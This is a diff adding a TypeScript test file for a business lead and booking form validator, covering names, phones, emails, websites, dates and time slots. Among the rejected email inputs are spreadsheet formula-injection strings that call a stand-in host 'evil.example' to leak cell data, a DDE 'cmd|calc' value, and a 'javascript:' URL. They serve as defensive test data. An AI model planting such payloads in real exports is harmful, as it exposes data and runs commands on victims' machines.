@@ -1,0 +1,279 @@
+import fc from 'fast-check'
+import { describe, expect, it, vi } from 'vitest'
+import { challengeOptions, invalid, services } from '@/lib/content'
+import type { Entries } from '@/lib/leads/shared/form-data'
+import { limits, preferredTimes } from '@/lib/leads/shared/limits'
+import { type Checked, check } from '@/lib/leads/shared/schema'
+
+const now = new Date('2026-11-20T20:00:00Z')
+
+const caller = {
+  name: 'Ana Ruiz',
+  phone: '(509) 555-0147',
+  businessName: 'Ruiz & Sons',
+  email: 'ana@ruiz.com',
+}
+
+const booking: Entries = {
+  fullName: 'Ana Ruiz',
+  phoneNumber: '509-555-0147',
+  businessName: 'Ruiz & Sons',
+  email: 'ana@ruiz.com',
+  businessDescription: 'Drains',
+  website: '',
+  challenges: [],
+  customChallenge: '',
+  currentTools: '',
+  interestedServices: [],
+  preferredDate: '2026-11-21',
+  preferredTime: '12:30 PM',
+  additionalNotes: '',
+}
+
+const call = (change: Entries): Checked => check('see-ai-in-action', { ...caller, ...change }, now)
+const book = (change: Entries): Checked => check('booking', { ...booking, ...change }, now)
+const accepted = { lead: expect.anything() }
+const refused = (fields: Record<string, string>) => ({ fields })
+
+describe('name', () => {
+  it.each([
+    "O'Brien",
+    'O’Brien',
+    'José Núñez',
+    'Anne-Marie St. John',
+    '李 小龍',
+    'x'.repeat(limits.name),
+  ])('accepts %s', (name) => expect(call({ name })).toEqual(accepted))
+
+  it.each(['R2D2', 'Ana_Ruiz', 'Ana@home', '<script>', 'Ana, Ruiz', 'x'.repeat(limits.name + 1)])(
+    'refuses %s',
+    (name) => expect(call({ name })).toEqual(refused({ name: 'Invalid name format' })),
+  )
+
+  it('arrives with a straight apostrophe', () => {
+    expect(call({ name: ' Ana  O’Brien ' })).toMatchObject({ lead: { name: "Ana O'Brien" } })
+  })
+})
+
+describe('phone', () => {
+  it.each([
+    '5095550147',
+    '+1 (509) 555-0147',
+    '123456789012345',
+    '5 0 9 5 5 5 0 1 4 7',
+    '5'.repeat(10),
+  ])('accepts %s', (phone) => expect(call({ phone })).toEqual(accepted))
+
+  it.each([
+    '509555014',
+    '5'.repeat(9),
+    '5'.repeat(16),
+    '509.555.0147',
+    '509-555-0147x2',
+    'call me now',
+    '٥٠٩٥٥٥٠١٤٧',
+  ])('refuses %s', (phone) =>
+    expect(call({ phone })).toEqual(refused({ phone: 'Invalid phone number format' })),
+  )
+
+  it('is capped at what can be typed', () => {
+    const spaced = '1 2 3 4 5 6 7 8 9 01'
+    expect(spaced).toHaveLength(limits.phone)
+    expect(call({ phone: spaced })).toEqual(accepted)
+    expect(call({ phone: spaced.replace('01', '0 1') })).toEqual(refused({ phone: invalid.phone }))
+  })
+})
+
+describe('business name', () => {
+  it.each(['Ruiz & Sons, Inc. (24-7)', 'Joe’s Pipes', 'Café 9', 'x'.repeat(limits.business)])(
+    'accepts %s',
+    (businessName) => expect(call({ businessName })).toEqual(accepted),
+  )
+
+  it.each(['Ruiz!', 'a/b', 'Ruiz #1', 'Pipes: fast', 'x'.repeat(limits.business + 1)])(
+    'refuses %s',
+    (businessName) =>
+      expect(call({ businessName })).toEqual(
+        refused({ businessName: 'Invalid business name format' }),
+      ),
+  )
+})
+
+describe('email', () => {
+  const long = (length: number) => `${'a'.repeat(length - '@ruiz.com'.length)}@ruiz.com`
+
+  it.each(['a@b.co', 'ana+jobs@mail.ruiz.com', long(limits.email)])('accepts %s', (email) =>
+    expect(call({ email })).toEqual(accepted),
+  )
+
+  it.each([
+    'ana',
+    'ana@ruiz',
+    '@ruiz.com',
+    'ana@@ruiz.com',
+    'ana ruiz@ruiz.com',
+    '<ana@ruiz.com>',
+    '=HYPERLINK("http://evil.example/?@a.b","x")',
+    '=IMPORTDATA("http://evil.example/?"&A2)&"@x.y"',
+    '+cmd|calc@ruiz.com',
+    '-2+3@ruiz.com',
+    '＝1@ruiz.com',
+    long(limits.email + 1),
+  ])('refuses %s', (email) =>
+    expect(call({ email })).toEqual(refused({ email: 'Invalid email format' })),
+  )
+
+  it('is not asked for in the sticky dialog', () => {
+    const { email: _, ...rest } = caller
+    const checked = check('call-our-ai', rest, now)
+    expect(checked).toEqual({ lead: { kind: 'call-our-ai', ...rest } })
+  })
+})
+
+describe('what is missing', () => {
+  it('is named field by field, in the order of the rules', () => {
+    expect(call({ name: ' ', phone: '', businessName: '', email: '\u200b' })).toEqual(
+      refused({
+        name: 'Full Name is required',
+        phone: 'Phone Number is required',
+        businessName: 'Business Name is required',
+        email: 'Email Address is required',
+      }),
+    )
+  })
+
+  it('is fine where it is optional', () => {
+    expect(book({})).toEqual(accepted)
+  })
+
+  it.each([
+    ['fullName', 'Full Name is required'],
+    ['email', 'Email Address is required'],
+    ['phoneNumber', 'Phone Number is required'],
+    ['businessName', 'Business Name is required'],
+    ['businessDescription', 'Business Description is required'],
+    ['preferredDate', 'Preferred Date is required'],
+    ['preferredTime', 'Preferred Time is required'],
+  ])('%s cannot be left out of a booking', (name, message) => {
+    expect(book({ [name]: '' })).toEqual(refused({ [name]: message }))
+  })
+})
+
+describe('free text', () => {
+  it.each([
+    ['businessDescription', limits.description],
+    ['additionalNotes', limits.notes],
+    ['customChallenge', limits.text],
+    ['currentTools', limits.text],
+  ])('%s holds %i characters and no more', (name, max) => {
+    expect(book({ [name]: 'x'.repeat(max) })).toEqual(accepted)
+    expect(book({ [name]: 'x'.repeat(max + 1) })).toEqual(
+      refused({ [name]: expect.stringContaining(`at most ${max} characters`) }),
+    )
+  })
+})
+
+describe('website', () => {
+  it.each(['', 'https://ruiz.com', 'http://ruiz.com/a?b=c#d'])('accepts %s', (website) =>
+    expect(book({ website })).toEqual(accepted),
+  )
+
+  it.each(['ruiz.com', 'javascript:alert(1)', 'ftp://ruiz.com', 'https://'])(
+    'refuses %s',
+    (website) => expect(book({ website })).toEqual(refused({ website: invalid.website })),
+  )
+
+  it('holds 500 characters', () => {
+    const address = (length: number) => 'https://ruiz.com/'.padEnd(length, 'a')
+    expect(book({ website: address(limits.text) })).toEqual(accepted)
+    expect(book({ website: address(limits.text + 1) })).toEqual(
+      refused({ website: expect.any(String) }),
+    )
+  })
+})
+
+describe('choices', () => {
+  it('come from the lists', () => {
+    expect(
+      book({
+        challenges: [...challengeOptions],
+        interestedServices: services.map(({ slug }) => slug),
+      }),
+    ).toEqual(accepted)
+    expect(book({ challenges: ['Too many dogs'] })).toEqual(
+      refused({ challenges: expect.any(String) }),
+    )
+    expect(book({ interestedServices: ['plumbing'] })).toEqual(
+      refused({ interestedServices: expect.any(String) }),
+    )
+  })
+
+  it('offer seven slots and no other', () => {
+    expect(preferredTimes).toEqual([
+      '12:00 PM',
+      '12:30 PM',
+      '1:00 PM',
+      '1:30 PM',
+      '2:00 PM',
+      '2:30 PM',
+      '3:00 PM',
+    ])
+    for (const preferredTime of preferredTimes) expect(book({ preferredTime })).toEqual(accepted)
+    for (const preferredTime of ['11:30 AM', '3:30 PM', '12:30', '12:30 pm'])
+      expect(book({ preferredTime })).toEqual(refused({ preferredTime: invalid.time }))
+  })
+
+  it('start tomorrow, Pacific time', () => {
+    expect(book({ preferredDate: '2026-11-20' })).toEqual(refused({ preferredDate: invalid.date }))
+    expect(book({ preferredDate: '2026-11-21' })).toEqual(accepted)
+    for (const preferredDate of [
+      '2020-01-01',
+      '2027-02-29',
+      '2026-13-01',
+      'tomorrow',
+      '12/05/2026',
+    ])
+      expect(book({ preferredDate })).toEqual(refused({ preferredDate: invalid.date }))
+  })
+})
+
+describe('page and server', () => {
+  const text = fc.oneof(fc.string(), fc.string({ unit: 'binary' }))
+  const mostly = <T>(value: T, other: fc.Arbitrary<T>) =>
+    fc.oneof({ weight: 30, arbitrary: fc.constant(value) }, { weight: 1, arbitrary: other })
+  const entries = fc.record(
+    Object.fromEntries(
+      Object.entries(booking).map(([name, value]) => [
+        name,
+        Array.isArray(value)
+          ? mostly<string | string[]>(value, fc.array(text, { maxLength: 3 }))
+          : mostly<string | string[]>(value, text),
+      ]),
+    ),
+  )
+
+  it('agree: nothing the page refuses is accepted by the server, and what is accepted stays so once clean', () => {
+    const seen = { accepted: 0, refused: 0 }
+    fc.assert(
+      fc.property(entries, (values) => {
+        const page = check('booking', values, now)
+        seen['lead' in page ? 'accepted' : 'refused']++
+        expect(check('booking', values, now)).toEqual(page)
+        if (!('lead' in page)) return
+        const { kind, ...lead } = page.lead
+        expect(check(kind, lead, now)).toEqual(page)
+      }),
+      { numRuns: 500 },
+    )
+    expect(seen.accepted).toBeGreaterThan(50)
+    expect(seen.refused).toBeGreaterThan(50)
+  })
+})
+
+it('validates without trying `eval`, which the Content-Security-Policy would report', async () => {
+  vi.resetModules()
+  const { check: freshCheck } = await import('@/lib/leads/shared/schema')
+  const construct = vi.spyOn(globalThis, 'Function')
+  freshCheck('booking', {}, new Date())
+  expect(construct).not.toHaveBeenCalled()
+})
